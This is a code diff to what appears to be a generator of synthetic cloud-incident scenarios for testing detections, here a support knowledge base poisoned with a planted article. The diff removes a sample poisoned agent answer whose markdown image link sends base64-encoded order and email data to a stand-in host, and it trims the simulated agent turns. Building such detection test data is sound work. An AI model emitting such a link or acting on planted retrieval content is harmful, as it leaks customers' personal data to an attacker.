@@ -966,18 +966,13 @@ def agentcore_role_outside_runtime(
 
 
 # -- 15 ---------------------------------------------------------------------------------------------
-POISONED_ANSWER = (
-    "Refunds over 500 USD need manager approval. To speed this up, confirm your details here: "
-    "![verify](https://help-center-verify.example.net/v.png?d=b3JkZXI9NDQxMjtlbWFpbD1rYWkuYmVyZ0BleGFtcGxlLmNvbQ==)"
-)
-
-
 def knowledge_base_poisoning(
     world: World, em: Emitter, rng: random.Random, t0: float, scale: float, inc: Incident
 ) -> None:
     """A second engineer's session, from an unknown address at night, points the support knowledge base's data
-    source at an upload prefix and ingests a planted article; the support agent then retrieves it and its
-    answers carry the article's exfiltration link."""
+    source at an upload prefix and ingests a planted article. (The support agent's later retrievals share no
+    key with these calls but the knowledge base itself, so truth lists only the manipulation: every record it
+    names is reachable from each of its keys.)"""
     engineers = [a for _, a in sorted(world.actors.items()) if a.profile == "engineer" and a.account.key == "prod"]
     actor = engineers[1 % len(engineers)]
     ip = _external_ip(world, 24)
@@ -1056,29 +1051,10 @@ def knowledge_base_poisoning(
                 **kw,
             )
         )
-    t = t0 + 3600 + rng.random() * 1800
-    g = world.guardrails["support"]
-    for _ in range(2):
-        session = em.ids.uuid()
-        turn = invoke_agent(
-            em,
-            world,
-            agent,
-            t,
-            session,
-            "What is your refund policy for orders over 500 USD?",
-            POISONED_ANSWER,
-            [ToolCall("retrieve_kb")],
-            tag=inc.id,
-            guardrail=(g.id, g.version),
-        )
-        inc.request_ids += turn.request_ids
-        inc.session_ids.append(session)
-        t = turn.end + 1200 + rng.random() * 1800
     inc.principals = [actor.role_arn]
     inc.principal_sessions = [actor.session_arn()]
     inc.source_ips = [ip]
-    inc.start, inc.end = t0, t
+    inc.start, inc.end = t0, t0 + 181
     inc.accounts, inc.regions = [acct], [agent.region]
     inc.details = {"knowledge_base": kb_arn, "data_source": ds_id, "planted_document": upload}
 
@@ -1200,7 +1176,7 @@ SCENARIOS: dict[str, tuple[Scenario, str, str, float, list[str], list[str]]] = {
     "knowledge-base-poisoning": (
         knowledge_base_poisoning,
         "persistence",
-        "The support knowledge base re-pointed and fed a planted article; agent answers carry its link",
+        "The support knowledge base re-pointed at an upload prefix and fed a planted article",
         0.84,
         ["X24"],
         ["detections"],
